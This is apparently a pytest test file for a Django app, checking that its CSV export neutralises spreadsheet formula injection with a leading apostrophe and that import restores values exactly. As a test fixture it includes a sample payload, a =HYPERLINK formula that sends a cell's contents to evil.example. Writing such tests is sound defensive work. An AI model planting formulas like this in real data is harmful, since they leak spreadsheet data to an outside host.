"""Text that a spreadsheet would run as a formula leaves the export as text, and comes back.

An expert can type ``=HYPERLINK(…)`` as their municipality on their own page; the coordinator
opens the export in Excel. The export writes such text with a leading apostrophe and the import
takes one leading apostrophe away, so export → import keeps every value exactly.
"""

import csv
from decimal import Decimal

import pytest
from django.core.management import call_command

from agreements.models import Agreement, Assignment, Participation
from interchange import formats
from interchange.readers import BOM
from registry.models import AssignmentType, Expert, ServiceArea
from tests.factories import AgreementFactory, ExpertFactory, ParticipationFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"Kokkola")'
# Text starting with each character a spreadsheet reads as a formula, with the apostrophe
# that marks text itself, and with the ones that must stay as they are.
TRICKY = {
    "first_name": "+Aino",
    "last_name": "'t Hooft",
    "phone": "+358 40 123 4567",
    "municipality": LINK,
    "email": "=aino@example.fi",
}
TITLES = ["-Luento", "@raati", "=1+1", "\tSisennetty", "\rRivi", "''kaksi", "Tavallinen"]


def _rows(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def _export(folder):
    call_command("export_data", str(folder))
    return {spec.name: _rows(folder / spec.name) for spec in formats.FILES}


def test_export_writes_an_experts_formula_as_text(tmp_path):
    ExpertFactory(municipality=LINK, phone="+358 40 123 4567")

    experts = _export(tmp_path)[formats.EXPERTS.name]

    row = dict(zip(experts[0], experts[1], strict=True))
    assert row["municipality"] == "'" + LINK
    assert row["phone"] == "'+358 40 123 4567"


def test_no_exported_text_cell_starts_a_formula(tmp_path):
    expert = ExpertFactory(external_id="=E1", **TRICKY)
    agreement = AgreementFactory(expert=expert, number="-S1", hourly_fee=Decimal("30.00"))
    for title in TITLES:
        shared = ParticipationFactory(agreement=agreement, assignment__title=title).assignment
    ParticipationFactory(agreement__expert__external_id="+E2", assignment=shared)

    exported = _export(tmp_path)

    starts = ("=", "+", "-", "@", "\t", "\r")
    cells = [cell for rows in exported.values() for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(starts)] == []
    ids = [row[6] for row in exported[formats.ASSIGNMENTS.name][1:]]
    assert ids == ["'=E1"] * (len(TITLES) - 1) + ["'+E2|=E1"]  # one cell, one apostrophe


def _empty_the_database():
    Participation.objects.all().delete()
    Assignment.objects.all().delete()
    Agreement.objects.all().delete()
    Expert.objects.all().delete()
    ServiceArea.objects.filter(parent__isnull=False).delete()
    ServiceArea.objects.all().delete()
    AssignmentType.objects.all().delete()


def test_export_then_import_keeps_every_leading_character(tmp_path):
    expert = ExpertFactory(external_id="=E1", **TRICKY)
    agreement = AgreementFactory(expert=expert, number="-S1")
    for index, title in enumerate(TITLES):
        ParticipationFactory(
            agreement=agreement, assignment__title=title, assignment__external_id=f"@T{index}"
        )
    first = _export(tmp_path / "first")

    _empty_the_database()
    call_command("import_data", str(tmp_path / "first"))

    imported = Expert.objects.get(external_id="=E1")
    assert {field: getattr(imported, field) for field in TRICKY} == TRICKY
    assert Agreement.objects.get().number == "-S1"
    assert sorted(Assignment.objects.values_list("title", flat=True)) == sorted(TITLES)
    assert _export(tmp_path / "second") == first


def test_import_takes_away_one_leading_apostrophe_only(tmp_path):
    header = ";".join(formats.EXPERTS.column_names)
    rows = ["E1;'=Aino;''Mäkelä;;'+358 40 1;'Kokkola;expert;no;", "E2;O'Brien;'';;;;expert;no;"]
    (tmp_path / "experts.csv").write_text(BOM + "\n".join([header, *rows]), encoding="utf-8")

    call_command("import_data", str(tmp_path))

    names = Expert.objects.order_by("external_id").values_list(
        "first_name", "last_name", "phone", "municipality"
    )
    assert list(names) == [("=Aino", "'Mäkelä", "+358 40 1", "Kokkola"), ("O'Brien", "'", "", "")]
